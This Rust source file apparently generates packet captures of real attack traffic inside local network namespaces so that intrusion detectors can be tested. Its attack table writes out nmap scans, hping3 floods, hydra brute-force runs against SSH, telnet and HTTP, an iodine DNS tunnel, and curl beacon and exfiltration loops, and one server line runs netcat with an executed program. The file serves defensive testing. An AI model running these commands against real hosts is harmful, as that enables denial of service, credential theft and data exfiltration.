//! Records what real attack tools do, one capture a tool, in namespaces: data to try detectors on that nobody made up.
//!
//! Everything runs between a home and a network namespace and never leaves the machine; each tool is bounded in packets and
//! time. `cargo run --release -p chaff-novelty --example quality -- DATA --captures FOLDER` scores the captures.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use nix::sys::signal::Signal;

use crate::command::{Running, Stop, require_root};
use crate::netns::{self, Layout, SINK, Topology};
use crate::packages;

/// What `record-attacks` takes.
#[derive(clap::Args, Debug)]
pub struct Options {
    /// Folder for the captures; made.
    #[arg(long, default_value = "out/attacks")]
    out: PathBuf,
    /// Only attacks whose name contains this.
    #[arg(long, default_value = "")]
    only: String,
}

/// A tool's command line in the home; `TARGET` stands for its address. Each is bounded by itself or by `timeout`.
struct Attack {
    name: &'static str,
    line: &'static str,
}

const ATTACKS: [Attack; 16] = [
    attack("nmap-connect", "nmap -n -Pn -sT -T4 -p 1-1000 TARGET"),
    attack("nmap-syn", "nmap -n -Pn -sS -T4 -p 1-1000 TARGET"),
    attack("nmap-xmas", "nmap -n -Pn -sX -T4 -p 1-500 TARGET"),
    attack("nmap-version", "nmap -n -Pn -sV -p 22,23,80 TARGET"),
    attack(
        "nmap-slow",
        "nmap -n -Pn -sS --scan-delay 500ms --max-retries 0 -p 1-60 TARGET",
    ),
    attack(
        "hping-syn-flood",
        "hping3 -q -n -S -p 80 -i u1000 -c 5000 TARGET",
    ),
    attack(
        "hping-udp-flood",
        "hping3 -q -n --udp -p 53 -d 400 -i u1000 -c 5000 TARGET",
    ),
    attack(
        "hping-icmp-flood",
        "hping3 -q -n --icmp -d 200 -i u1000 -c 5000 TARGET",
    ),
    attack(
        "ab-http-flood",
        "timeout 20 ab -q -n 2000 -c 20 http://TARGET/",
    ),
    attack(
        "hydra-ssh",
        "timeout 40 hydra -I -q -t 4 -l camera -x 2:2:1 ssh://TARGET",
    ),
    attack(
        "hydra-telnet",
        "timeout 40 hydra -I -q -t 4 -l camera -x 2:2:1 telnet://TARGET",
    ),
    attack(
        "hydra-http",
        "timeout 20 hydra -I -q -t 4 -l camera -x 3:3:1 http-get://TARGET/login",
    ),
    attack(
        "iodine-dns-tunnel",
        "iodine -f -r -P secret TARGET t.example & sleep 8; \
         for i in 1 2 3; do curl -s -m 8 --data-binary @4k http://10.98.0.1/; sleep 2; done; kill $!; wait",
    ),
    attack(
        "curl-beacon",
        "for i in $(seq 15); do curl -s -m 2 --data ready http://TARGET/; sleep 3; done",
    ),
    attack(
        "curl-exfiltration",
        "for i in $(seq 20); do curl -s -m 5 --data-binary @200k http://TARGET/; sleep 1; done",
    ),
    attack("iperf-upload", "iperf3 -c TARGET -t 8 -b 20M"),
];

/// What is attacked, in the network.
const SERVERS: [&str; 5] = [
    "iperf3 -s",
    "python3 -c \"$SERVER\"",
    "sh -c 'dropbearkey -t ed25519 -f dropbear.key && exec dropbear -F -E -p 22 -P dropbear.pid -r dropbear.key'",
    "iodined -f -c -P secret -n 10.99.0.2 10.98.0.1/27 t.example",
    "busybox nc -ll -p 23 -e /usr/sbin/telnetd",
];
/// A web page, an upload and a page behind a password that nobody has.
const SERVER: &str = r#"
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Handler(BaseHTTPRequestHandler):
    def answer(self, code, body):
        self.send_response(code)
        if code == 401:
            self.send_header("WWW-Authenticate", "Basic realm=device")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_GET(self):
        self.answer(401 if self.path == "/login" else 200, b"page" * 100)
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.answer(200, b"stored")
    def log_message(self, *arguments):
        pass
ThreadingHTTPServer(("0.0.0.0", 80), Handler).serve_forever()
"#;

const fn attack(name: &'static str, line: &'static str) -> Attack {
    Attack { name, line }
}

/// No attack takes longer.
const LIMIT: Duration = Duration::from_secs(60);

/// Records one capture an attack, named after it.
///
/// # Errors
/// Without root or packages, or when a tool cannot run or sends nothing.
pub fn run(options: &Options) -> Result<()> {
    require_root("namespaces and raw sockets")?;
    packages::ensure(packages::NETNS)?;
    packages::ensure(packages::ATTACKS)?;
    fs::create_dir_all(&options.out)
        .with_context(|| format!("while making {}", options.out.display()))?;
    let out = fs::canonicalize(&options.out)?;
    let chosen: Vec<&Attack> = ATTACKS
        .iter()
        .filter(|a| a.name.contains(&options.only))
        .collect();
    if chosen.is_empty() {
        let names: Vec<&str> = ATTACKS.iter().map(|a| a.name).collect();
        return Err(Stop::Usage.error(format_args!(
            "--only {:?}: no attack's name contains it; there are {}",
            options.only,
            names.join(", ")
        )));
    }
    let place = Place::new()?;
    let mut servers = Vec::new();
    for line in SERVERS {
        let mut command = place.shell(&place.spaces.network(), &format!("exec {line}"));
        command.env("SERVER", SERVER);
        servers.push(Running::start(line, command)?);
    }
    thread::sleep(Duration::from_secs(2));
    for server in &mut servers {
        server.check()?;
    }
    for attack in chosen {
        let file = out.join(format!("{}.pcap", attack.name));
        let took = place.record(attack, &file)?;
        let bytes = fs::metadata(&file)?.len();
        ensure!(bytes > 3_000, "{}: next to nothing was sent", attack.name);
        eprintln!(
            "{}: {bytes} bytes in {:.1} s",
            attack.name,
            took.as_secs_f64()
        );
    }
    for mut server in servers {
        server.stop(Signal::SIGTERM, Duration::from_secs(5))?;
    }
    Ok(())
}

/// Namespaces, and a folder for what tools and servers write beside them; both go away.
struct Place {
    spaces: Topology,
    folder: PathBuf,
}

impl Place {
    fn new() -> Result<Self> {
        let name = format!("chaff-atk-{}", std::process::id());
        let place = Self {
            spaces: Topology::new(&name)?,
            folder: std::env::temp_dir().join(&name),
        };
        fs::create_dir_all(&place.folder)?;
        for (file, bytes) in [("4k", 4_000), ("200k", 200_000)] {
            fs::write(place.folder.join(file), vec![b'#'; bytes])?;
        }
        place.spaces.up(Layout::Route)?;
        Ok(place)
    }

    fn shell(&self, space: &str, line: &str) -> Command {
        let mut command = netns::command(space, "sh");
        command.args(["-c", line]).current_dir(&self.folder);
        command
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        command
    }

    fn record(&self, attack: &Attack, file: &Path) -> Result<Duration> {
        let mut tcpdump = netns::command(&self.spaces.gateway(), "tcpdump");
        tcpdump.args(["-i", "lan0", "-U", "-s", "128", "-Z", "root", "-w"]);
        tcpdump.arg(file).stderr(Stdio::null());
        // It has begun when the file has its header; one of an earlier run is none.
        if file.exists() {
            fs::remove_file(file)?;
        }
        let mut tcpdump = Running::start("tcpdump", tcpdump)?;
        let end = Instant::now() + Duration::from_secs(10);
        while fs::metadata(file).map_or(0, |m| m.len()) < 24 {
            tcpdump.check()?;
            ensure!(Instant::now() < end, "tcpdump does not begin");
            thread::sleep(Duration::from_millis(20));
        }
        thread::sleep(Duration::from_millis(500));
        let began = Instant::now();
        let line = attack.line.replace("TARGET", SINK);
        let mut tool = Running::start(attack.name, self.shell(&self.spaces.home(), &line))?;
        // Most tools end with 1 when they found nothing: what was sent counts.
        if tool.wait(LIMIT)?.is_none() {
            tool.stop(Signal::SIGTERM, Duration::from_secs(5))?;
        }
        let took = began.elapsed();
        thread::sleep(Duration::from_millis(500));
        tcpdump.stop(Signal::SIGINT, Duration::from_secs(10))?;
        Ok(took)
    }
}

impl Drop for Place {
    fn drop(&mut self) {
        if let Err(error) = self.spaces.down() {
            eprintln!("left behind: {error:#}");
        }
        let _gone = fs::remove_dir_all(&self.folder);
    }
}
